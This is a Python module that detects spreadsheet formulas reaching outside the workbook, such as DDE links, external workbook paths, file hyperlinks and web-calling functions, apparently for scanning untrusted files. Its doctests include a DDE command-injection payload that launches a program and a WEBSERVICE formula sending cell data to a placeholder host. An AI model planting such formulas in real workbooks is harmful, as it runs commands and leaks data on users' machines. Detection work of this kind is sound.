"""What a formula text may reach outside the workbook — found in linear time.

    formula_links(formula) -> [target, ...]

Formulas come from cells, defined names, data validation and conditional
formatting of untrusted files and can be long (Excel allows 8,192 characters;
a crafted file has no limit), so nothing here backtracks: string literals are
removed with ``str.split('"')``, the remaining scans are single passes or
regular expressions without nested or overlapping quantifiers.

Reported: DDE (``cmd|' /C calc'!A0`` — Excel has no ``|`` operator, so any
``|`` outside a string literal is a DDE reference), references into another
workbook by path (``'C:\\dir\\[book.xlsx]Sheet'!A1``), ``HYPERLINK`` to a
file/UNC path, and the functions that fetch or call out: ``WEBSERVICE``,
``FILTERXML``, ``RTD``, ``CALL``, ``REGISTER``/``REGISTER.ID``.
"""

from __future__ import annotations

import re

__all__ = ["OUTWARD_FUNCTIONS", "formula_links", "might_link"]

#: functions that reach outside the workbook when recalculated
OUTWARD_FUNCTIONS = ("WEBSERVICE", "FILTERXML", "RTD", "CALL", "REGISTER.ID", "REGISTER")

_HYPERLINK_RE = re.compile(
    r'HYPERLINK\s*+\(\s*+"((?:file:|\\\\|//|[A-Za-z]:[\\/])[^"]*+)"', re.IGNORECASE
)
_FUNC_RE = re.compile(
    r"(?<![A-Za-z0-9_])(WEBSERVICE|FILTERXML|RTD|CALL|REGISTER(?:\.ID)?)\s*+\(", re.IGNORECASE
)
_PATH_PREFIX_RE = re.compile(r"[A-Za-z]:\\|\\\\|file:|https?:", re.IGNORECASE)
_OPEN_BRACKET_RE = re.compile(r"\[[^\]]")

#: cheap pre-test on raw text: only formulas containing one of these are scanned
_MARKERS_RE = re.compile(r"[|\[]|HYPERLINK|WEBSERVICE|FILTERXML|RTD|CALL|REGISTER", re.IGNORECASE)


def might_link(formula: str) -> bool:
    """True when :func:`formula_links` could find something (a fast pre-filter)."""
    return _MARKERS_RE.search(formula) is not None


def _strip_strings(formula: str) -> str:
    """The formula with the contents of every string literal removed; linear.

    ``"a""b"`` (an escaped quote) splits into outside pieces with empty strings
    between, so the even pieces are always the text outside string literals
    (only the quote characters of a literal remain).
    """
    pieces = formula.split('"')
    return '""'.join(pieces[0::2])


def _external_reference(bare: str) -> str | None:
    """``'C:\\dir\\[book.xlsx]Sheet'!`` style references: path prefix, ``[book]``, then ``!``.

    Each ``!``-separated segment is looked at once: it must contain a path
    prefix, after it a ``[`` followed by a non-``]`` character and, later, a
    ``]`` — the same language as ``'?(prefix)[^!]*\\[[^\\]]+\\][^!]*'?!``.
    """
    segments = bare.split("!")
    for seg in segments[:-1]:  # the last segment is not followed by '!'
        m = _PATH_PREFIX_RE.search(seg)
        if m is None:
            continue
        close = seg.rfind("]")
        if close <= m.end() or _OPEN_BRACKET_RE.search(seg, m.end(), close) is None:
            continue
        start = m.start() - 1 if m.start() > 0 and seg[m.start() - 1] == "'" else m.start()
        return seg[start:]
    return None


def formula_links(formula: str) -> list[str]:
    """External targets named by one formula (DDE, other workbooks, file links, web functions).

    >>> formula_links("=cmd|' /C calc'!A0")
    ["cmd|' /C calc'!A0"]
    >>> formula_links('=HYPERLINK("\\\\\\\\srv\\\\share\\\\a.xlsx","x")')
    ['\\\\\\\\srv\\\\share\\\\a.xlsx']
    >>> formula_links('=WEBSERVICE("http://example.com/?q="&A1)')
    ['函数 WEBSERVICE：WEBSERVICE("http://example.com/?q="&A1)']
    >>> formula_links("=SUM(G2:G5)")
    []
    """
    if not might_link(formula):
        return []
    found: list[str] = []
    found += _HYPERLINK_RE.findall(formula)
    bare = _strip_strings(formula)
    if "|" in bare:
        found.append(formula.lstrip("="))
    ref = _external_reference(bare)
    if ref:
        found.append(ref)
    names = dict.fromkeys(m.group(1).upper() for m in _FUNC_RE.finditer(bare))
    for name in names:
        found.append(f"函数 {name}：{formula.lstrip('=')[:200]}")
    return found
